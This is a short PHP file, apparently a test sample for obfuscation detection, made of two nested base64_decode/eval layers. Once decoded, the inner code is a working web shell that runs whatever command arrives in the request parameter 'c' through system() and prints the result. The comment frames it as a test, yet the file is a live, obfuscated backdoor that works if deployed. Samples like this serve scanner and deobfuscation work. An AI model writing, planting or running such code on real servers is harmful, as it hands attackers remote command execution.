<?php
/* Test sample: a base64 eval layer whose output is another base64 eval layer. */
eval(base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCdhV1lvYVhOelpYUW9KRjlTUlZGVlJWTlVXeWRqSjEwcEtYdGxZMmh2SUNjOGNISmxQaWM3YzNsemRHVnRLQ1JmVWtWUlZVVlRWRnNuWXlkZEtUdGxZMmh2SUNjOEwzQnlaVDRuTzMwPScpKTs='));
